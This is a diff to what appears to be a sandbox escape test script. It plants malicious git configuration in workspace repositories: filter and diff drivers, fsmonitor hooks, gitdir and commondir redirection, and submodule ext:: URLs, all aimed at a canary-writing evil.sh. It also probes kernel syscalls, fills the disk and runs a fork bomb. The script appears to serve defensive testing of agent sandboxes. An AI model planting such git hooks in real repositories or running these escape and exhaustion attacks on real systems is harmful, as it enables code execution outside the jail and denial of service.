@@ -4,11 +4,15 @@ Reads `targets.json` beside it and writes what it got to `loot.json`; no loot me
 Bounded in count, size and time, whatever the jail does. Standard library only: it runs inside.
 """
 
+import ctypes
 import fcntl
 import json
+import mmap
 import os
+import shutil
 import signal
 import socket
+import struct
 import subprocess
 import sys
 import time
@@ -171,6 +175,143 @@ def planted_hooks() -> None:
     (HERE / "planted.html").write_text("<p>planted</p>\n")
 
 
+def nested_repository() -> None:
+    """A filter of a repository below, for whoever asks what is new in it."""
+    for folder in SUBFOLDERS:
+        settings(repository(folder) / ".git" / "config", FILTER)
+
+
+def fsmonitor() -> None:
+    for folder in SUBFOLDERS:
+        top = repository(folder)
+        settings(top / ".git" / "config", f"[core]\n\tfsmonitor = {evil()}\n")
+        git(top, "update-index", "--fsmonitor")
+
+
+def info_attributes() -> None:
+    for folder in SUBFOLDERS:
+        top = repository(folder)
+        (top / ".gitattributes").unlink()
+        (top / ".git" / "info").mkdir(exist_ok=True)
+        (top / ".git" / "info" / "attributes").write_text("* filter=evil\n")
+        settings(top / ".git" / "config", FILTER)
+
+
+def gitdir_file() -> None:
+    """The repository lies in another folder of the workspace, and a file `.git` names it."""
+    for folder in SUBFOLDERS:
+        top = repository(folder)
+        store = (top / ".git").rename(HERE / f"store-{folder}")
+        settings(store / "config", FILTER)
+        (top / ".git").write_text(f"gitdir: {store}\n")
+
+
+def commondir() -> None:
+    """The repository itself is harmless; the one that its `commondir` names is not."""
+    for folder in SUBFOLDERS:
+        top = repository(folder)
+        store = Path(shutil.copytree(top / ".git", HERE / f"store-{folder}"))
+        settings(store / "config", FILTER)
+        (top / ".git" / "config").unlink()
+        (top / ".git" / "commondir").write_text(f"{store}\n")
+
+
+def worktree_pointer() -> None:
+    """The folder is a second work tree of a repository that lies elsewhere in the workspace."""
+    for folder in SUBFOLDERS:
+        store = repository(f"store-{folder}")
+        git(store, "worktree", "add", "-q", "--force", "--detach", str(HERE / folder))
+        (HERE / folder / "page.html").write_text("<p>more</p>\n")
+        (store / ".git" / "worktrees" / folder / "config.worktree").write_text(FILTER.format(evil=evil()))
+        settings(store / ".git" / "config", "[extensions]\n\tworktreeConfig = true\n")
+
+
+def symlinked_git() -> None:
+    for folder in SUBFOLDERS:
+        top = repository(folder)
+        store = (top / ".git").rename(HERE / f"store-{folder}")
+        settings(store / "config", FILTER)
+        (top / ".git").symlink_to(store)
+
+
+def other_names_of_git() -> None:
+    """What other file systems take for `.git`, and git itself therefore refuses to store."""
+    for folder in SUBFOLDERS:
+        top = repository(folder)
+        settings(top / ".git" / "config", FILTER)
+        for name in (".GIT", ".gIt", "git~1", "GIT~1", ".git ", ".git...", ".g\u200cit", ".git::$INDEX_ALLOCATION"):
+            shutil.copytree(top / ".git", top / name)
+    shutil.copytree(HERE / "sub" / ".git", HERE / ".Git")
+
+
+def gitattributes_filters() -> None:
+    """Everything that a `.gitattributes` can ask of git, with settings beside it that would define it."""
+    (HERE / ".gitattributes").write_text(
+        "* filter=evil diff=evil merge=evil ident\n*.html text eol=crlf working-tree-encoding=UTF-16\n"
+    )
+    for name in (".gitconfig", "config", ".config/git/config"):
+        (HERE / name).parent.mkdir(parents=True, exist_ok=True)
+        (HERE / name).write_text(FILTER.format(evil=evil()))
+    (HERE / "planted.html").write_text("<p>$Id$</p>\n")
+
+
+def gitmodules() -> None:
+    """A submodule in words, with the repository that git would keep for it."""
+    store = HERE / ".git" / "modules" / "sub"
+    settings(repository("sub") / ".git" / "config", FILTER + "[core]\n\tworktree = ../../../sub\n")
+    store.parent.mkdir(parents=True)
+    (HERE / "sub" / ".git").rename(store)
+    (HERE / "sub" / ".git").write_text("gitdir: ../.git/modules/sub\n")
+    (HERE / ".gitmodules").write_text(
+        f'[submodule "sub"]\n\tpath = sub\n\turl = ext::{evil()}\n\tupdate = !{evil()}\n\tignore = none\n'
+        "\tfetchRecurseSubmodules = true\n"
+    )
+
+
+SUBFOLDERS = ("sub", "below")
+"""The first may be a submodule of the victim's branch already."""
+FILTER = (
+    '[filter "evil"]\n\tclean = {evil}\n\tsmudge = {evil}\n\trequired = true\n'
+    '[diff]\n\texternal = {evil}\n[diff "evil"]\n\ttextconv = {evil}\n[merge "evil"]\n\tdriver = {evil}\n'
+)
+
+
+def evil() -> Path:
+    """A program that leaves its mark where only programs outside of the jail can."""
+    path = HERE / "evil.sh"
+    if not path.exists():
+        path.write_text(f"#!/bin/sh\ntouch '{TARGETS['canary']}'\ncat\n")
+        path.chmod(0o755)
+    return path
+
+
+def settings(config: Path, text: str) -> None:
+    append(config, text.replace("{evil}", str(evil())))
+
+
+def repository(folder: str, where: Path = HERE) -> Path:
+    """A repository with one commit, whose attributes ask for a filter, and a file that has changed since.
+
+    The commit is always the same one, so that a branch of the victim can name it as its submodule.
+    """
+    top = where / folder
+    top.mkdir(exist_ok=True)
+    git(top, "init", "-q")
+    (top / "page.html").write_text("<p>once</p>\n")
+    (top / ".gitattributes").write_text("* filter=evil\n")
+    git(top, "add", ".")
+    git(top, "commit", "-q", "-m", "x")
+    (top / "page.html").write_text("<p>more</p>\n")
+    return top
+
+
+def git(folder: Path, *words: str) -> None:
+    env = {"PATH": os.environ["PATH"], "HOME": str(folder)}
+    for person in ("AUTHOR", "COMMITTER"):
+        env |= {f"GIT_{person}_NAME": "x", f"GIT_{person}_EMAIL": "x@example.com", f"GIT_{person}_DATE": "@0 +0000"}
+    subprocess.run(["git", *words], cwd=folder, env=env, check=True, capture_output=True, timeout=PATIENCE)
+
+
 def agent_settings() -> None:
     """What a coding agent would obey, if it believed a repository's own settings."""
     run = f"touch '{TARGETS['canary']}'"
@@ -185,6 +326,58 @@ def agent_settings() -> None:
     (HERE / "planted.html").write_text("<p>planted</p>\n")
 
 
+def system_calls() -> None:
+    """What a kernel offers that no namespace shuts away."""
+    for name, family in {"vsock": 40, "kernel crypto": 38, "packet": 17, "bluetooth": 31, "kcm": 41, "xdp": 44}.items():
+        attempt(f"socket {name}", lambda family=family: socket.socket(family, socket.SOCK_STREAM))
+        attempt(f"datagrams {name}", lambda family=family: socket.socket(family, socket.SOCK_DGRAM))
+    numbers = {
+        "x86_64": {"keyctl": 250, "add_key": 248, "ptrace": 101, "perf": 298, "bpf": 321, "faults": 323, "unshare": 272,
+                   "memory": 310, "clone": 56},
+        "aarch64": {"keyctl": 219, "add_key": 217, "ptrace": 117, "perf": 241, "bpf": 280, "faults": 282, "unshare": 97,
+                    "memory": 270, "clone": 220},
+    }[os.uname().machine]  # fmt: skip
+    buffer = ctypes.create_string_buffer(4096)
+    attempt("session keyring", lambda: call(numbers["keyctl"], 0, -3, 1))
+    attempt("a new keyring", lambda: call(numbers["keyctl"], 1, 0))
+    attempt("a key", lambda: call(numbers["add_key"], b"user", b"x", b"x", 1, -1))
+    attempt("io_uring", lambda: call(425, 8, buffer))
+    attempt("ptrace of init", lambda: call(numbers["ptrace"], 0x4206, 1, 0, 0))
+    attempt("page faults", lambda: call(numbers["faults"], 1))
+    attempt("performance counters", lambda: call(numbers["perf"], buffer, 0, -1, -1, 0))
+    attempt("a namespace", lambda: call(numbers["unshare"], 0x10000000))
+    attempt("a namespace by clone", lambda: child(call(numbers["clone"], 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)))
+    attempt("a namespace by clone3", lambda: child(call(435, struct.pack("=8Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0), 64)))
+    attempt("a secret memory", lambda: call(447, 0))
+    attempt("x32", lambda: call(0x40000000 | 39))
+    if os.uname().machine == "x86_64":
+        attempt("i386", i386)
+
+
+def call(number: int, *words: object) -> int:
+    libc = ctypes.CDLL(None, use_errno=True)
+    got = libc.syscall(number, *words)
+    if got < 0:
+        raise OSError(ctypes.get_errno(), "refused")
+    return int(got)
+
+
+def child(pid: int) -> int:
+    if pid == 0:
+        os._exit(0)
+    return pid
+
+
+def i386() -> int:
+    """getpid through the other door of an x86_64 kernel."""
+    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+    code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")  # mov eax, 20; int 0x80; ret
+    got = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
+    if got < 0:
+        raise OSError(-got, "refused")
+    return int(got)
+
+
 def link_in_the_result() -> None:
     (HERE / "passwd.html").symlink_to("/etc/passwd")
 
@@ -194,11 +387,11 @@ def special_files() -> None:
 
 
 def fork_bomb() -> None:
-    blocked, hold = os.pipe()
+    blocked, token = os.pipe()
     for count in range(1000):
         try:
             if os.fork() == 0:
-                os.close(hold)
+                os.close(token)
                 os.read(blocked, 1)
                 os._exit(0)
         except OSError:
@@ -237,6 +430,19 @@ def disk_filling() -> None:
                 file.write(block)
     time.sleep(PATIENCE)
     loot.append("400 MB of disk")
+
+
+def long_paths() -> None:
+    """Files whose absolute path is longer than the system takes: found only from a folder on the way."""
+    os.chdir(HERE)
+    for _ in range(20):
+        Path("d" * 250).mkdir()
+        os.chdir("d" * 250)
+    block = b"x" * 1_000_000
+    for number in range(20):
+        Path(f"large-{number}").write_bytes(block * 10)
+    time.sleep(PATIENCE)
+    loot.append("200 MB of disk")
 
 
 def many_files() -> None:
